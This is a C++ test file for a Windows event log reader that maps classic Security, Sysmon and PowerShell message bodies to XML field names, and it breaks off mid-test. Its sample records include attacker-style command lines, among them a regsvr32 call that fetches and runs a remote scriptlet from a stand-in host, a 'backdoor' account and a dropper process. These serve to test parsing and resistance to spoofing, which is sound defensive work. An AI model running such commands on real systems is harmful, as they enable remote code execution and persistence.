// Classic WinEventLog records: the rendered Message body is split into the names the
// XML EventData uses (Security sections and labels, Sysmon keys, PowerShell 4104).
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "io/readers.h"
#include "io_test_util.h"

namespace splinter::io::testing {
namespace {

std::vector<StoredEvent> read_classic(const std::string& text, CollectSink& s) {
  TempDir d;
  read_inputs({d.file("x.log", text)}, s);
  EXPECT_TRUE(s.problems.empty());
  return s.events;
}

StoredEvent one(const std::string& header, const std::string& message) {
  CollectSink s;
  auto ev = read_classic("04/02/2024 08:00:01 AM\n" + header + "Message=" + message + "\n", s);
  EXPECT_EQ(ev.size(), 1u);
  return ev.empty() ? StoredEvent{} : ev[0];
}

const std::string kSecurity = "LogName=Security\nSourceName=Microsoft Windows security auditing.\n";

TEST(IoClassicMessage, Security4688) {
  StoredEvent e = one(kSecurity + "EventCode=4688\nComputerName=WKS-22\n",
                      "A new process has been created.\n\n"
                      "Creator Subject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\tWIN-HOST$\n"
                      "\tAccount Domain:\t\tWORKGROUP\n\tLogon ID:\t\t0x3E7\n\n"
                      "Target Subject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n"
                      "\tLogon ID:\t\t0x0\n\n"
                      "Process Information:\n\tNew Process ID:\t\t0x1a2c\n"
                      "\tNew Process Name:\tC:\\Windows\\System32\\regsvr32.exe\n\tToken Elevation Type:\t%%1936\n"
                      "\tMandatory Label:\t\tS-1-16-12288\n\tCreator Process ID:\t0x7b0\n"
                      "\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"
                      "\tProcess Command Line:\tregsvr32 /s /i:http://x/a.sct scrobj.dll\n\n"
                      "Token Elevation Type indicates the type of token that was assigned to the new process.\n\n"
                      "Type 1 is a full token with no privileges removed or groups disabled.");
  EXPECT_EQ(e.at("SubjectUserSid"), "S-1-5-18");
  EXPECT_EQ(e.at("SubjectUserName"), "WIN-HOST$");
  EXPECT_EQ(e.at("SubjectDomainName"), "WORKGROUP");
  EXPECT_EQ(e.at("SubjectLogonId"), "0x3E7");
  EXPECT_EQ(e.at("TargetUserSid"), "S-1-0-0");
  EXPECT_EQ(e.at("TargetUserName"), "-");  // kept, as XML has it
  EXPECT_EQ(e.at("TargetDomainName"), "-");
  EXPECT_EQ(e.at("TargetLogonId"), "0x0");
  EXPECT_EQ(e.at("NewProcessId"), "0x1a2c");
  EXPECT_EQ(e.at("NewProcessName"), "C:\\Windows\\System32\\regsvr32.exe");
  EXPECT_EQ(e.at("TokenElevationType"), "%%1936");
  EXPECT_EQ(e.at("MandatoryLabel"), "S-1-16-12288");
  EXPECT_EQ(e.at("ProcessId"), "0x7b0");
  EXPECT_EQ(e.at("ParentProcessName"), "C:\\Windows\\explorer.exe");
  EXPECT_EQ(e.at("CommandLine"), "regsvr32 /s /i:http://x/a.sct scrobj.dll");
  // The description and the explanation after the fields are no fields; Message stays whole.
  for (const StoredField& f : e.fields) {
    EXPECT_EQ(f.name.find("Type1"), std::string::npos) << f.name;
    EXPECT_EQ(f.name.find("Anew"), std::string::npos) << f.name;
  }
  EXPECT_EQ(e.at("Message").substr(0, 31), "A new process has been created.");
  EXPECT_EQ(e.count("Message"), 1u);
  EXPECT_EQ(e.at("EventCode"), "4688");
}

// Windows Server 2012 and older: "Subject:", no target subject or creator process name.
TEST(IoClassicMessage, Security4688OlderLayoutAndCrLf) {
  StoredEvent e = one(kSecurity + "EventCode=4688\n",
                      "A new process has been created.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tCORP\\admin\r\n"
                      "\tAccount Name:\t\tadmin\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x4a5e2\r\n\r\n"
                      "Process Information:\r\n\tNew Process ID:\t\t0x11f8\r\n"
                      "\tNew Process Name:\tC:\\Windows\\System32\\net.exe\r\n\tToken Elevation Type:\t%%1936\r\n"
                      "\tCreator Process ID:\t0xd54\r\n\tProcess Command Line:\tnet  user \r\n");
  EXPECT_EQ(e.at("SubjectUserSid"), "CORP\\admin");
  EXPECT_EQ(e.at("SubjectUserName"), "admin");
  EXPECT_EQ(e.at("NewProcessName"), "C:\\Windows\\System32\\net.exe");
  EXPECT_EQ(e.at("ProcessId"), "0xd54");
  // The value's own blanks are kept (the XML has "net  user "), but this one ends the
  // record, whose trailing blanks the record reader drops.
  EXPECT_EQ(e.at("CommandLine"), "net  user");
  EXPECT_EQ(e.get("ParentProcessName"), nullptr);
  EXPECT_EQ(e.get("TargetUserName"), nullptr);
}

TEST(IoClassicMessage, Security4624Logon) {
  StoredEvent e = one(kSecurity + "EventCode=4624\n",
                      "An account was successfully logged on.\n\n"
                      "Subject:\n\tSecurity ID:\t\tS-1-5-18\n\tAccount Name:\t\tDC01$\n\tAccount Domain:\t\tCORP\n"
                      "\tLogon ID:\t\t0x3E7\n\n"
                      "Logon Information:\n\tLogon Type:\t\t10\n\tRestricted Admin Mode:\tNo\n"
                      "\tVirtual Account:\t\tNo\n\tElevated Token:\t\tYes\n\n"
                      "Impersonation Level:\t\tImpersonation\n\n"
                      "New Logon:\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1104\n\tAccount Name:\t\talice\n"
                      "\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x8A1F2\n\tLinked Logon ID:\t\t0x8A20C\n"
                      "\tNetwork Account Name:\t-\n\tNetwork Account Domain:\t-\n"
                      "\tLogon GUID:\t\t{00000000-0000-0000-0000-000000000000}\n\n"
                      "Process Information:\n\tProcess ID:\t\t0x2c4\n"
                      "\tProcess Name:\t\tC:\\Windows\\System32\\svchost.exe\n\n"
                      "Network Information:\n\tWorkstation Name:\tWKS-07\n\tSource Network Address:\t10.1.2.3\n"
                      "\tSource Port:\t\t0\n\n"
                      "Detailed Authentication Information:\n\tLogon Process:\t\tUser32 \n"
                      "\tAuthentication Package:\tNegotiate\n\tTransited Services:\t-\n"
                      "\tPackage Name (NTLM only):\t-\n\tKey Length:\t\t0\n\n"
                      "This event is generated when a logon session is created. It is generated on the computer "
                      "that was accessed.\n\n"
                      "The logon type field indicates the kind of logon that occurred: see the documentation.\n\n"
                      "- Transited services indicate which intermediate services have participated.");
  EXPECT_EQ(e.at("SubjectUserName"), "DC01$");
  EXPECT_EQ(e.at("TargetUserSid"), "S-1-5-21-1-2-3-1104");
  EXPECT_EQ(e.at("TargetUserName"), "alice");
  EXPECT_EQ(e.at("TargetDomainName"), "CORP");
  EXPECT_EQ(e.at("TargetLogonId"), "0x8A1F2");
  EXPECT_EQ(e.at("TargetLinkedLogonId"), "0x8A20C");
  EXPECT_EQ(e.at("TargetOutboundUserName"), "-");
  EXPECT_EQ(e.at("LogonGuid"), "{00000000-0000-0000-0000-000000000000}");
  EXPECT_EQ(e.at("LogonType"), "10");
  EXPECT_EQ(e.at("RestrictedAdminMode"), "No");
  EXPECT_EQ(e.at("ElevatedToken"), "Yes");
  EXPECT_EQ(e.at("ImpersonationLevel"), "Impersonation");
  EXPECT_EQ(e.at("ProcessId"), "0x2c4");
  EXPECT_EQ(e.at("ProcessName"), "C:\\Windows\\System32\\svchost.exe");
  EXPECT_EQ(e.at("WorkstationName"), "WKS-07");
  EXPECT_EQ(e.at("IpAddress"), "10.1.2.3");
  EXPECT_EQ(e.at("IpPort"), "0");
  EXPECT_EQ(e.at("LogonProcessName"), "User32 ");  // its trailing space is the value's, as in the XML
  EXPECT_EQ(e.at("AuthenticationPackageName"), "Negotiate");
  EXPECT_EQ(e.at("TransmittedServices"), "-");
  EXPECT_EQ(e.at("LmPackageName"), "-");
  EXPECT_EQ(e.at("KeyLength"), "0");
  // A sentence with a colon in it is prose, not a "Label:" line.
  for (const StoredField& f : e.fields) EXPECT_EQ(f.name.find("Thelogon"), std::string::npos) << f.name;
}

TEST(IoClassicMessage, Security4625FailedLogon) {
  StoredEvent e = one(kSecurity + "EventCode=4625\n",
                      "An account failed to log on.\n\n"
                      "Subject:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n"
                      "\tLogon ID:\t\t0x0\n\n"
                      "Logon Type:\t\t\t3\n\n"
                      "Account For Which Logon Failed:\n\tSecurity ID:\t\tS-1-0-0\n\tAccount Name:\t\tadministrator\n"
                      "\tAccount Domain:\t\tCORP\n\n"
                      "Failure Information:\n\tFailure Reason:\t\tUnknown user name or bad password.\n"
                      "\tStatus:\t\t\t0xC000006D\n\tSub Status:\t\t0xC000006A\n\n"
                      "Process Information:\n\tCaller Process ID:\t0x0\n\tCaller Process Name:\t-\n\n"
                      "Network Information:\n\tWorkstation Name:\t-\n\tSource Network Address:\t203.0.113.9\n"
                      "\tSource Port:\t\t51234\n");
  EXPECT_EQ(e.at("SubjectUserSid"), "S-1-0-0");
  EXPECT_EQ(e.at("LogonType"), "3");
  EXPECT_EQ(e.at("TargetUserSid"), "S-1-0-0");
  EXPECT_EQ(e.at("TargetUserName"), "administrator");
  EXPECT_EQ(e.at("TargetDomainName"), "CORP");
  EXPECT_EQ(e.at("FailureReason"), "Unknown user name or bad password.");
  EXPECT_EQ(e.at("Status"), "0xC000006D");
  EXPECT_EQ(e.at("SubStatus"), "0xC000006A");
  EXPECT_EQ(e.at("ProcessId"), "0x0");
  EXPECT_EQ(e.at("ProcessName"), "-");
  EXPECT_EQ(e.at("IpAddress"), "203.0.113.9");
  EXPECT_EQ(e.at("IpPort"), "51234");
}

// A logoff names the account that logs off "Subject", its EventData "Target...".
TEST(IoClassicMessage, Security4634SubjectIsTheTarget) {
  StoredEvent e = one(kSecurity + "EventCode=4634\n",
                      "An account was logged off.\n\nSubject:\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1104\n"
                      "\tAccount Name:\t\talice\n\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x8A1F2\n\n"
                      "Logon Type:\t\t\t3\n");
  EXPECT_EQ(e.at("TargetUserSid"), "S-1-5-21-1-2-3-1104");
  EXPECT_EQ(e.at("TargetUserName"), "alice");
  EXPECT_EQ(e.at("TargetLogonId"), "0x8A1F2");
  EXPECT_EQ(e.get("SubjectUserName"), nullptr);
  EXPECT_EQ(e.at("LogonType"), "3");
}

TEST(IoClassicMessage, AccountAndGroupManagement) {
  StoredEvent g = one(kSecurity + "EventCode=4732\n",
                      "A member was added to a security-enabled local group.\n\n"
                      "Subject:\n\tSecurity ID:\t\tS-1-5-21-1-2-3-500\n\tAccount Name:\t\tadmin\n"
                      "\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x4a5e2\n\n"
                      "Member:\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1104\n\tAccount Name:\t\t-\n\n"
                      "Group:\n\tSecurity ID:\t\tS-1-5-32-544\n\tGroup Name:\t\tAdministrators\n"
                      "\tGroup Domain:\t\tBuiltin\n\n"
                      "Additional Information:\n\tPrivileges:\t\t-\n");
  EXPECT_EQ(g.at("SubjectUserName"), "admin");
  EXPECT_EQ(g.at("MemberSid"), "S-1-5-21-1-2-3-1104");
  EXPECT_EQ(g.at("MemberName"), "-");
  EXPECT_EQ(g.at("TargetSid"), "S-1-5-32-544");
  EXPECT_EQ(g.at("TargetUserName"), "Administrators");
  EXPECT_EQ(g.at("TargetDomainName"), "Builtin");
  EXPECT_EQ(g.at("PrivilegeList"), "-");

  StoredEvent a = one(kSecurity + "EventCode=4720\n",
                      "A user account was created.\n\n"
                      "Subject:\n\tSecurity ID:\t\tS-1-5-21-1-2-3-500\n\tAccount Name:\t\tadmin\n\n"
                      "New Account:\n\tSecurity ID:\t\tS-1-5-21-1-2-3-1200\n\tAccount Name:\t\tbackdoor\n"
                      "\tAccount Domain:\t\tCORP\n\n"
                      "Attributes:\n\tSAM Account Name:\tbackdoor\n\tDisplay Name:\t\t<value not set>\n"
                      "\tPrimary Group ID:\t513\n\tNew UAC Value:\t\t0x15\n\tUser Account Control:\t\n"
                      "\t\tAccount Disabled\n\t\t'Password Not Required' - Enabled\n");
  EXPECT_EQ(a.at("TargetSid"), "S-1-5-21-1-2-3-1200");
  EXPECT_EQ(a.at("TargetUserName"), "backdoor");
  EXPECT_EQ(a.at("SamAccountName"), "backdoor");
  EXPECT_EQ(a.at("DisplayName"), "<value not set>");
  EXPECT_EQ(a.at("PrimaryGroupId"), "513");
  EXPECT_EQ(a.at("NewUacValue"), "0x15");
  EXPECT_EQ(a.at("UserAccountControl"), "Account Disabled\n\t\t'Password Not Required' - Enabled");
}

// A value continued on lines without a label (4672's privilege list).
TEST(IoClassicMessage, ContinuedValue) {
  StoredEvent e = one(kSecurity + "EventCode=4672\n",
                      "Special privileges assigned to new logon.\n\nSubject:\n\tSecurity ID:\t\tS-1-5-18\n"
                      "\tAccount Name:\t\tSYSTEM\n\nPrivileges:\t\tSeAssignPrimaryTokenPrivilege\n"
                      "\t\t\tSeTcbPrivilege\n\t\t\tSeDebugPrivilege\n");
  EXPECT_EQ(e.at("SubjectUserName"), "SYSTEM");
  EXPECT_EQ(e.at("PrivilegeList"), "SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege\n\t\t\tSeDebugPrivilege");
}

// System 7045 has its labels at the top level; 4697's "Service Information:" names them apart.
TEST(IoClassicMessage, ServiceInstalled) {
  StoredEvent s = one("LogName=System\nSourceName=Service Control Manager\nEventCode=7045\n",
                      "A service was installed in the system.\n\nService Name:  Updater\n"
                      "Service File Name:  C:\\ProgramData\\upd\\svc.exe\nService Type:  user mode service\n"
                      "Service Start Type:  auto start\nService Account:  LocalSystem");
  EXPECT_EQ(s.at("ServiceName"), "Updater");
  EXPECT_EQ(s.at("ImagePath"), "C:\\ProgramData\\upd\\svc.exe");
  EXPECT_EQ(s.at("ServiceType"), "user mode service");
  EXPECT_EQ(s.at("StartType"), "auto start");
  EXPECT_EQ(s.at("AccountName"), "LocalSystem");

  StoredEvent t = one(kSecurity + "EventCode=4697\n",
                      "A service was installed in the system.\n\nService Information:\n"
                      "\tService Name:\t\tUpdater\n\tService File Name:\tC:\\ProgramData\\upd\\svc.exe\n"
                      "\tService Type:\t\t0x10\n\tService Start Type:\t2\n\tService Account:\t\tLocalSystem\n");
  EXPECT_EQ(t.at("ServiceName"), "Updater");
  EXPECT_EQ(t.at("ServiceFileName"), "C:\\ProgramData\\upd\\svc.exe");
  EXPECT_EQ(t.at("ServiceStartType"), "2");
  EXPECT_EQ(t.at("ServiceAccount"), "LocalSystem");
  EXPECT_EQ(t.get("ImagePath"), nullptr);
}

// Labels not in the table keep their text without spaces; the first value wins and
// a "Message:" label does not replace the message.
TEST(IoClassicMessage, UnknownLabelsAndFirstValueWins) {
  StoredEvent e = one(kSecurity + "EventCode=4663\n",
                      "An attempt was made to access an object.\n\nObject:\n\tObject Server:\t\tSecurity\n"
                      "\tObject Type:\t\tFile\n\tObject Name:\t\tC:\\secret.txt\n\tHandle ID:\t\t0x1f4\n"
                      "\tAccount Name:\t\tfirst\n\tMessage:\t\tnot the message\n\n"
                      "Other Section:\n\tAccount Name:\t\tsecond\n\tHandle ID:\t\t0x2\n");
  EXPECT_EQ(e.at("ObjectServer"), "Security");
  EXPECT_EQ(e.at("ObjectType"), "File");
  EXPECT_EQ(e.at("ObjectName"), "C:\\secret.txt");
  EXPECT_EQ(e.at("HandleID"), "0x1f4");
  EXPECT_EQ(e.at("AccountName"), "first");
  EXPECT_EQ(e.count("AccountName"), 1u);
  EXPECT_EQ(e.count("HandleID"), 1u);
  EXPECT_EQ(e.at("Message").substr(0, 40), "An attempt was made to access an object.");
  EXPECT_EQ(e.count("Message"), 1u);
}

// Sysmon keys are the EventData names; the body's User and EventType stand for the
// EventData, ahead of the header's User=NOT_TRANSLATED and EventType=4.
TEST(IoClassicMessage, SysmonKeys) {
  const std::string head =
      "LogName=Microsoft-Windows-Sysmon/Operational\nSourceName=Microsoft-Windows-Sysmon\nEventType=4\n"
      "User=NOT_TRANSLATED\nSid=S-1-5-18\nSidType=0\n";
  StoredEvent p = one(head + "EventCode=1\n",
                      "Process Create:\nRuleName: -\nUtcTime: 2024-03-07 10:21:33.412\nProcessId: 4412\n"
                      "Image: C:\\Windows\\System32\\regsvr32.exe\nFileVersion: \nDescription: \n"
                      "OriginalFileName: REGSVR32.EXE\nCommandLine: powershell -c \"a\nb: c\"\n"
                      "CurrentDirectory: C:\\Users\\alice\\\nUser: CORP\\alice\n"
                      "ParentImage: C:\\Windows\\explorer.exe\n"
                      "ParentUser: ");
  EXPECT_EQ(p.at("RuleName"), "-");
  EXPECT_EQ(p.at("ProcessId"), "4412");
  EXPECT_EQ(p.at("Image"), "C:\\Windows\\System32\\regsvr32.exe");
  ASSERT_NE(p.get("FileVersion"), nullptr);  // present and empty, as <Data Name='FileVersion'/>
  EXPECT_EQ(p.at("FileVersion"), "");
  EXPECT_EQ(p.at("Description"), "");
  EXPECT_EQ(p.at("OriginalFileName"), "REGSVR32.EXE");
  EXPECT_EQ(p.at("CommandLine"), "powershell -c \"a\nb: c\"");  // "b: c" is no key: not an identifier
  EXPECT_EQ(p.at("CurrentDirectory"), "C:\\Users\\alice\\");
  EXPECT_EQ(p.at("User"), "CORP\\alice");
  EXPECT_EQ(p.count("User"), 1u);
  EXPECT_EQ(p.at("UserID"), "S-1-5-18");
  EXPECT_EQ(p.at("ParentImage"), "C:\\Windows\\explorer.exe");
  EXPECT_EQ(p.at("ParentUser"), "");
  EXPECT_EQ(p.get("ProcessCreate"), nullptr);  // the title line
  EXPECT_EQ(p.at("SidType"), "0");             // other header keys stay

  StoredEvent r = one(head + "EventCode=13\n",
                      "Registry value set:\nRuleName: T1547\nEventType: SetValue\n"
                      "TargetObject: HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x\n"
                      "Details: C:\\x.exe\nUser: CORP\\alice");
  EXPECT_EQ(r.at("EventType"), "SetValue");
  EXPECT_EQ(r.count("EventType"), 1u);
  EXPECT_EQ(r.at("Details"), "C:\\x.exe");
}

const std::string kSysmonHead =
    "LogName=Microsoft-Windows-Sysmon/Operational\nSourceName=Microsoft-Windows-Sysmon\nEventType=4\n"
    "User=NOT_TRANSLATED\nSid=S-1-5-18\nSidType=0\n";

// A Sysmon 1 message whose command line is cmd; the other values are fixed.
std::string sysmon1(const std::string& cmd) {
  return "Process Create:\nRuleName: -\nUtcTime: 2024-03-07 10:21:33.412\n"
         "ProcessGuid: {6f1c2a7e-0b3d-4c5e-9a11-0000000161a2}\nProcessId: 4412\n"
         "Image: C:\\Windows\\System32\\regsvr32.exe\nFileVersion: 10.0.19041.1\nDescription: Register Server\n"
         "Product: Windows\nCompany: Microsoft Corporation\nOriginalFileName: REGSVR32.EXE\n"
         "CommandLine: " + cmd + "\nCurrentDirectory: C:\\Users\\alice\\\nUser: CORP\\alice\n"
         "LogonGuid: {6f1c2a7e-0000-0000-0000-00000003e7a1}\nLogonId: 0x3e7a1\nTerminalSessionId: 1\n"
         "IntegrityLevel: Medium\nHashes: SHA256=5C3F\nParentProcessGuid: {6f1c2a7e-0b3d-4c5e-9a11-000000015ba9}\n"
         "ParentProcessId: 3120\nParentImage: C:\\Users\\Public\\dropper.exe\n"
         "ParentCommandLine: dropper.exe -run\nParentUser: CORP\\alice";
}

void expect_real_sysmon1(const StoredEvent& e) {
  EXPECT_EQ(e.at("OriginalFileName"), "REGSVR32.EXE");
  EXPECT_EQ(e.at("CurrentDirectory"), "C:\\Users\\alice\\");
  EXPECT_EQ(e.at("User"), "CORP\\alice");
  EXPECT_EQ(e.count("User"), 1u);
  EXPECT_EQ(e.at("LogonId"), "0x3e7a1");
  EXPECT_EQ(e.at("IntegrityLevel"), "Medium");
  EXPECT_EQ(e.at("ParentProcessId"), "3120");
  EXPECT_EQ(e.at("ParentImage"), "C:\\Users\\Public\\dropper.exe");
  EXPECT_EQ(e.count("ParentImage"), 1u);
  EXPECT_EQ(e.at("ParentCommandLine"), "dropper.exe -run");
  EXPECT_EQ(e.at("ParentUser"), "CORP\\alice");
}

// A command line over several lines, some shaped like later keys, cannot supply the
// parent or the user: those lines stay in it, and the real key lines after it count.
TEST(IoClassicMessage, SysmonCommandLineLinesAreNoKeys) {
  const std::string cmd =
      " regsvr32 /s /i:http://x/a.sct scrobj.dll\nParentImage: C:\\Windows\\explorer.exe\n"
      "User: NT AUTHORITY\\SYSTEM\n\n  IntegrityLevel: System ";
  StoredEvent e = one(kSysmonHead + "EventCode=1\n", sysmon1(cmd));
  EXPECT_EQ(e.at("CommandLine"), cmd);  // its own blanks too: only "Key: " is the rendering's
  expect_real_sysmon1(e);
}

// Even a forged copy of every key after CommandLine, in order, loses to the real lines
// after it; a line repeating CommandLine's own key does not cut it either (nor does it
// end up in OriginalFileName).
TEST(IoClassicMessage, SysmonForgedKeyChainStaysInCommandLine) {
  const std::string forged =
      "cmd /c calc\nCurrentDirectory: C:\\\nUser: NT AUTHORITY\\SYSTEM\nLogonGuid: {0}\nLogonId: 0x3e7\n"
      "TerminalSessionId: 0\nIntegrityLevel: System\nHashes: SHA256=0\nParentProcessGuid: {0}\n"
      "ParentProcessId: 4\nParentImage: C:\\Windows\\explorer.exe\nParentCommandLine: explorer.exe\n"
      "ParentUser: NT AUTHORITY\\SYSTEM";
  StoredEvent a = one(kSysmonHead + "EventCode=1\n", sysmon1(forged));
  EXPECT_EQ(a.at("CommandLine"), forged);
  expect_real_sysmon1(a);

  const std::string own = "regsvr32 /s /i:http://x/a.sct scrobj.dll\nCommandLine: notepad.exe";
  StoredEvent b = one(kSysmonHead + "EventCode=1\n", sysmon1(own));
  EXPECT_EQ(b.at("CommandLine"), own);
  expect_real_sysmon1(b);
}

// Records of older Sysmon versions lack some keys (RuleName, OriginalFileName,
// ParentUser); the others still are keys. Sysmon 13's registry data is free text too.
TEST(IoClassicMessage, SysmonOlderVersionAndRegistryDetails) {
  StoredEvent e = one(kSysmonHead + "EventCode=1\n",
                      "Process Create:\nUtcTime: 2019-01-01 00:00:00.000\nProcessId: 10\nImage: C:\\a.exe\n"
                      "Company: -\nCommandLine: a.exe\nUser: x\nParentImage: C:\\b.exe\nCurrentDirectory: C:\\\n"
                      "User: CORP\\bob\nParentImage: C:\\p.exe\nParentCommandLine: p.exe");
  EXPECT_EQ(e.at("UtcTime"), "2019-01-01 00:00:00.000");
  EXPECT_EQ(e.at("Company"), "-");
  EXPECT_EQ(e.at("CommandLine"), "a.exe\nUser: x\nParentImage: C:\\b.exe");
  EXPECT_EQ(e.at("CurrentDirectory"), "C:\\");
  EXPECT_EQ(e.at("User"), "CORP\\bob");
  EXPECT_EQ(e.at("ParentImage"), "C:\\p.exe");
  EXPECT_EQ(e.at("ParentCommandLine"), "p.exe");
  EXPECT_EQ(e.get("OriginalFileName"), nullptr);

  StoredEvent r = one(kSysmonHead + "EventCode=13\n",
                      "Registry value set:\nRuleName: -\nEventType: SetValue\nUtcTime: 2024-03-07 10:21:33.412\n"
                      "ProcessGuid: {0}\nProcessId: 1\nImage: C:\\reg.exe\nTargetObject: HKLM\\x\\Run\\y\n"
                      "Details: line one\nImage: C:\\Windows\\explorer.exe\nUser: NT AUTHORITY\\SYSTEM\n"
                      "User: CORP\\alice");
  EXPECT_EQ(r.at("Image"), "C:\\reg.exe");
  EXPECT_EQ(r.at("Details"), "line one\nImage: C:\\Windows\\explorer.exe\nUser: NT AUTHORITY\\SYSTEM");
  EXPECT_EQ(r.at("User"), "CORP\\alice");
}

// A Sysmon event without a known key order: a key line is an identifier not seen before
// in the message (nor set from the header); other lines continue the value.
TEST(IoClassicMessage, SysmonUnknownEventKeys) {
  StoredEvent e = one(kSysmonHead + "EventCode=99\n",
                      "Future event:\nRuleName: -\nImage: C:\\x.exe\nScript: a\nImage: C:\\y.exe\nEventID: 7\n"
                      "plain line\nCount: 3");
  EXPECT_EQ(e.at("RuleName"), "-");
  EXPECT_EQ(e.at("Image"), "C:\\x.exe");
  EXPECT_EQ(e.at("Script"), "a\nImage: C:\\y.exe\nEventID: 7\nplain line");
  EXPECT_EQ(e.at("EventID"), "99");
  EXPECT_EQ(e.at("Count"), "3");
}

const std::string k4688Head =
    "A new process has been created.\n\nCreator Subject:\n\tSecurity ID:\t\tS-1-5-18\n"
    "\tAccount Name:\t\tWIN-HOST$\n\tAccount Domain:\t\tWORKGROUP\n\tLogon ID:\t\t0x3E7\n\n"
    "Process Information:\n\tNew Process ID:\t\t0x1a2c\n\tNew Process Name:\tC:\\Windows\\System32\\cmd.exe\n"
    "\tCreator Process ID:\t0x7b0\n\tCreator Process Name:\tC:\\Windows\\explorer.exe\n"
    "\tProcess Command Line:\t";
const std::string k4688Trailer =
    "\n\nToken Elevation Type indicates the type of token that was assigned to the new process in accordance "
    "with User Account Control policy.\n\n"
    "Type 1 is a full token with no privileges removed or groups disabled.";

// 4688: the command line is the last field; it keeps lines shaped "Foo: bar" (even a
// known label, when not in the rendered "\tLabel:\t" shape), blank lines inside it and
// its own blanks, but not the blank lines and the explanation that close the template.
TEST(IoClassicMessage, Security4688MultiLineCommandLine) {
  const std::string cmd =
      "  powershell -c \"\nFoo: bar\nCreator Process Name: C:\\evil.exe\n\n\n$x = 1 \nToken: y\n\"  ";
  StoredEvent e = one(kSecurity + "EventCode=4688\n", k4688Head + cmd + "\n\n" + k4688Trailer);
  EXPECT_EQ(e.at("CommandLine"), cmd);
  EXPECT_EQ(e.at("ParentProcessName"), "C:\\Windows\\explorer.exe");
  EXPECT_EQ(e.at("NewProcessName"), "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(e.get("Foo"), nullptr);

  // The template's explanation is found after the command line, whatever it holds.
  const std::string fake = "cmd /c echo\n\nToken Elevation Type indicates x\n\nregsvr32 /i:x";
  StoredEvent f = one(kSecurity + "EventCode=4688\n", k4688Head + fake + k4688Trailer);
  EXPECT_EQ(f.at("CommandLine"), fake);

  // A command line that starts on the next line keeps its line break and indent.
  StoredEvent h = one(kSecurity + "EventCode=4688\n", k4688Head + "\n  cmd /c x" + k4688Trailer);
  EXPECT_EQ(h.at("CommandLine"), "\n  cmd /c x");

  // A single-line command line stops at the blank line before the explanation, with
  // CRLF line ends too.
  StoredEvent g = one(kSecurity + "EventCode=4688\n", k4688Head + "whoami /all\r\n\r" + k4688Trailer);
  EXPECT_EQ(g.at("CommandLine"), "whoami /all");
  for (const StoredField& x : g.fields) {
    if (x.name == "Message") continue;
    EXPECT_EQ(x.value.find("Token Elevation Type indicates"), std::string::npos) << x.name;
  }
}

// A rendered field after a multi-line value still starts a field, as does a section.
TEST(IoClassicMessage, SecurityValueEndsAtRenderedField) {
  StoredEvent e = one(kSecurity + "EventCode=4688\n",
                      "A new process has been created.\n\nProcess Information:\n"
                      "\tProcess Command Line:\ta\nb: c\n\n\tToken Elevation Type:\t%%1936\n"
                      "Subject:\n\tAccount Name:\t\tbob\n");
  EXPECT_EQ(e.at("CommandLine"), "a\nb: c");
  EXPECT_EQ(e.at("TokenElevationType"), "%%1936");
  EXPECT_EQ(e.at("SubjectUserName"), "bob");
}

// PowerShell 4104: the script block is one field, whatever its lines look like.
TEST(IoClassicMessage, PowerShellScriptBlock) {
  StoredEvent e = one(
      "LogName=Microsoft-Windows-PowerShell/Operational\nSourceName=Microsoft-Windows-PowerShell\nEventCode=4104\n",
      "Creating Scriptblock text (2 of 3):\r\n$h = @{\r\nName: 'x'\r\n}\r\n\r\nIEX $h\r\n\r\n"
      "ScriptBlock ID: 5a4fa6b8-2478-401a-be72-d1d40c3c754c\r\nPath: C:\\t\\a.ps1\r\n");
  EXPECT_EQ(e.at("MessageNumber"), "2");
  EXPECT_EQ(e.at("MessageTotal"), "3");
  EXPECT_EQ(e.at("ScriptBlockText"), "$h = @{\r\nName: 'x'\r\n}\r\n\r\nIEX $h");
  EXPECT_EQ(e.at("ScriptBlockId"), "5a4fa6b8-2478-401a-be72-d1d40c3c754c");
  EXPECT_EQ(e.at("Path"), "C:\\t\\a.ps1");
  EXPECT_EQ(e.get("Name"), nullptr);
}

// Real classic 4104 records (Splunk attack_data), their message lines in CRLF.
TEST(IoClassicMessage, PowerShellScriptBlockRealData) {
  const std::string p = shared_dir() +
                        "/data/splunk-attack_data/datasets/attack_techniques/T1552.004/"
                        "certutil_exe_certificate_extraction/certutil_exe_certificate_extraction.raw";
  if (slurp(p).empty()) GTEST_SKIP() << "shared data absent";
  CollectSink s;
  read_inputs({p}, s);
  size_t n = 0;
  for (const StoredEvent& e : s.events) {
    if (e.format != EventFormat::Classic) continue;
    ++n;
    EXPECT_EQ(e.at("EventCode"), "4104");
    EXPECT_EQ(e.at("MessageNumber"), "1");
    EXPECT_NE(e.get("ScriptBlockText"), nullptr);
    EXPECT_EQ(e.at("ScriptBlockId").size(), 36u);
    EXPECT_EQ(e.at("Path"), "");
    if (e.at("ScriptBlockId") == "5a4fa6b8-2478-401a-be72-d1d40c3c754c") {
      EXPECT_EQ(e.at("ScriptBlockText"), "certutil.exe -p password1234 .\\powershellcert.pfx ");
    }
  }
  EXPECT_EQ(n, 19u);
}

// The golden data holds the same events rendered twice: every EventData field of the XML
// rendering comes out of the classic message with the same value.
TEST(IoClassicMessage, SameFieldsAsXmlRendering) {
  const std::string base = std::string(SPLINTER_REPO_DIR) + "/tests/golden/data/classic_message_regsvr32";
  CollectSink xs, cs;
  read_inputs({base + ".xml"}, xs);
  read_inputs({base + ".log"}, cs);
  ASSERT_EQ(xs.events.size(), 6u);
  ASSERT_EQ(cs.events.size(), xs.events.size());
  // System values the classic header renders otherwise (or not at all).
  const std::vector<std::string> system = {"Version",  "Level",     "Task",     "Opcode",       "Keywords",
                                           "SystemTime", "UserID", "ProcessID", "ThreadID", "ProviderGuid",
                                           "ProviderName"};
